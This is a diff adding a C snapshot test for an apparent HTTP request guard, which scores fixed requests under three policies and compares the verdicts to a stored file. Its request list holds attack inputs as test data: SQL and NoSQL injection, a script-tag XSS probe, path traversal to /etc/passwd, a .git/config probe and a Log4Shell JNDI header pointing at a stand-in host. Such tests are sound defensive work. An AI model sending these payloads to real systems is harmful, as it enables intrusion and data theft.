@@ -1,0 +1,193 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* A snapshot of verdicts: fixed policies, fixed requests, the text of what was decided. A change of
+ * rules, weights or sentences shows here and is accepted on purpose only: run with --update, read
+ * the difference, commit it. */
+#include "unit/policy/world.h"
+
+#include <inttypes.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+static struct world world;
+static struct guard_endpoint_rule rules[2];
+static struct guard_criterion criteria[3];
+static struct guard_span values[2];
+
+static void as_learned(void)
+{
+    world_init(&world);
+}
+
+static void strict(void)
+{
+    world_init(&world);
+    world.cfg.alpha = 1e-5;
+    world.guardian.request_mode = GUARD_MODE_ALERT;
+}
+
+static struct guard_criterion unsaid(enum guard_location location, const char *name)
+{
+    return (struct guard_criterion){.location = location,
+                                    .name = world_span(name),
+                                    .required = -1,
+                                    .length_max = -1,
+                                    .length_min = -1,
+                                    .items_max = -1};
+}
+
+static void with_criteria(void)
+{
+    world_init(&world);
+    values[0] = GUARD_SPAN_LITERAL("asc");
+    values[1] = GUARD_SPAN_LITERAL("random");
+    criteria[0] = unsaid(GUARD_LOCATION_QUERY, "sort");
+    criteria[0].values = values;
+    criteria[0].value_count = 2;
+    criteria[1] = unsaid(GUARD_LOCATION_QUERY, "username");
+    criteria[1].length_max = 8;
+    criteria[2] = unsaid(GUARD_LOCATION_QUERY, "x");
+    criteria[2].types = 1u << GUARD_TYPE_INT;
+    rules[0] = (struct guard_endpoint_rule){.template_text = world_span("/search"),
+                                            .mode = -1,
+                                            .body_max = -1,
+                                            .closed = true,
+                                            .fields = criteria,
+                                            .field_count = 3};
+    rules[1] = (struct guard_endpoint_rule){
+        .template_text = world_span("/users/{}"), .mode = GUARD_MODE_OBSERVE, .body_max = -1};
+    world.guardian.endpoints = rules;
+    world.guardian.endpoint_count = 2;
+}
+
+static const struct {
+    const char *name;
+    void (*make)(void);
+} policies[] = {{"as learned", as_learned},
+                {"alpha 1e-5, mode alert", strict},
+                {"with criteria", with_criteria}};
+
+static const struct ask asks[] = {
+    {"GET", "/search?username=tom&id=1&sort=asc&note=fine,+thanks", NULL, NULL, NULL},
+    {"GET", "/search?username=tom+or+1%3D1", NULL, NULL, NULL},
+    {"GET", "/search?username=tom%27%20UNION%20SELECT%20*%20FROM%20users--", NULL, NULL, NULL},
+    {"GET", "/search?username=%3Cscript%3Ealert(1)%3C/script%3E", NULL, NULL, NULL},
+    {"GET", "/search?username=Tom", NULL, NULL, NULL},
+    {"GET", "/search?username=maximilian", NULL, NULL, NULL},
+    {"GET", "/search?username=tom&sort=random", NULL, NULL, NULL},
+    {"GET", "/search?username=tom&sort=desc", NULL, NULL, NULL},
+    {"GET", "/search?username=tom&x=1", NULL, NULL, NULL},
+    {"GET", "/search?username=tom&x=y", NULL, NULL, NULL},
+    {"GET", "/search?id=1", NULL, NULL, NULL},
+    {"GET", "/search?username=tom&username=bob", NULL, NULL, NULL},
+    {"GET", "/search?username=%ff%27", NULL, NULL, NULL},
+    {"GET", "/users/7", NULL, NULL, NULL},
+    {"GET", "/users/7%20or%201%3D1", NULL, NULL, NULL},
+    {"GET", "/users/../admin", NULL, NULL, NULL},
+    {"GET", "/.git/config", NULL, NULL, NULL},
+    {"DELETE", "/users/7", NULL, NULL, NULL},
+    {"OPTIONS", "/orders", NULL, NULL, NULL},
+    {"PUT", "/orders", NULL, "{\"item\":\"chair\"}", NULL},
+    {"POST", "/orders", NULL,
+     "{\"item\":\"chair\",\"qty\":2,\"address\":{\"zip\":\"12345\"},\"tags\":[\"new\"]}", NULL},
+    {"POST", "/orders", NULL, "{\"item\":{\"$ne\":null},\"qty\":2}", NULL},
+    {"POST", "/orders", NULL, "{\"item\":\"chair\",\"qty\":2,\"role\":\"admin\"}", NULL},
+    {"POST", "/orders", NULL, "{\"item\":\"chair\",\"qty\":2", NULL},
+    {"POST", "/login", NULL, "user=tom&password=secret1", NULL},
+    {"POST", "/login", NULL, "user=admin'--&password=x", NULL},
+    {"GET", "/files/readme", NULL, NULL, NULL},
+    {"GET", "/files/..%2f..%2fetc%2fpasswd", NULL, NULL, NULL},
+    {"GET", "/users/7", "host: shop.test\nuser-agent: ${jndi:ldap://x.test/a}\n", NULL, NULL},
+    {"GET", "/users/7", "user-agent: curl/7.88.1\nx-forwarded-host: x.test\n", NULL, NULL},
+};
+
+static void print_verdict(FILE *out, const struct ask *ask, const struct answer *answer)
+{
+    const struct guard_verdict *verdict = answer->verdict;
+    char line[512], observed[160], expected[160];
+    guard_explain(verdict, guard_txn_method(answer->txn), guard_txn_template(answer->txn), line,
+                  sizeof(line));
+    fprintf(out, "%s %s%s%s\n", ask->method, ask->target, ask->body != NULL ? " " : "",
+            ask->body != NULL ? ask->body : "");
+    fprintf(out, "  %s score %u of %u: %s\n", guard_decision_name(verdict->action), verdict->score,
+            verdict->threshold, line);
+    for (uint32_t i = 0; i < verdict->finding_count; i++) {
+        const struct guard_finding *finding = &verdict->findings[i];
+        guard_finding_texts(finding, observed, sizeof(observed), expected, sizeof(expected));
+        fprintf(out, "    %u %s %s %.*s [%s] [%s]\n", finding->strength,
+                guard_rule_name(finding->rule), guard_location_name(finding->location),
+                (int)finding->name.len, (const char *)finding->name.ptr, observed, expected);
+    }
+}
+
+static void print_all(FILE *out)
+{
+    for (size_t i = 0; i < sizeof(policies) / sizeof(policies[0]); i++) {
+        policies[i].make();
+        fprintf(out, "# policy: %s\n", policies[i].name);
+        struct guard_policy *policy = world_policy(&world);
+        for (size_t k = 0; k < sizeof(asks) / sizeof(asks[0]); k++) {
+            struct answer answer;
+            world_ask(&answer, policy, &asks[k]);
+            print_verdict(out, &asks[k], &answer);
+            world_answer_free(&answer);
+        }
+        world_policy_free(policy);
+    }
+}
+
+static char *read_all(const char *path)
+{
+    enum { MAX = 1 << 20 };
+    FILE *file = fopen(path, "rb");
+    char *text = calloc(1, MAX);
+    if (file != NULL && text != NULL)
+        (void)!fread(text, 1, MAX - 1, file);
+    if (file != NULL)
+        fclose(file);
+    return text;
+}
+
+/* The first line that differs. */
+static int compare(const char *wanted, const char *got)
+{
+    for (int line = 1; *wanted != '\0' || *got != '\0'; line++) {
+        size_t a = strcspn(wanted, "\n"), b = strcspn(got, "\n");
+        if (a != b || memcmp(wanted, got, a) != 0) {
+            fprintf(stderr, "line %d\n  expected: %.*s\n  got:      %.*s\n", line, (int)a, wanted,
+                    (int)b, got);
+            return 1;
+        }
+        wanted += a + (wanted[a] == '\n');
+        got += b + (got[b] == '\n');
+    }
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    if (argc < 2 || (argc > 2 && strcmp(argv[1], "--update") != 0)) {
+        fprintf(stderr, "usage: %s [--update] decisions.txt\n", argv[0]);
+        return 2;
+    }
+    if (argc > 2) {
+        FILE *file = fopen(argv[2], "w");
+        if (file == NULL)
+            return 1;
+        print_all(file);
+        return fclose(file) == 0 ? 0 : 1;
+    }
+    char *got = NULL;
+    size_t len = 0;
+    FILE *memory = open_memstream(&got, &len);
+    if (memory == NULL)
+        return 1;
+    print_all(memory);
+    fclose(memory);
+    char *wanted = read_all(argv[1]);
+    int rc = wanted == NULL ? 1 : compare(wanted, got);
+    free(wanted);
+    free(got);
+    return rc;
+}
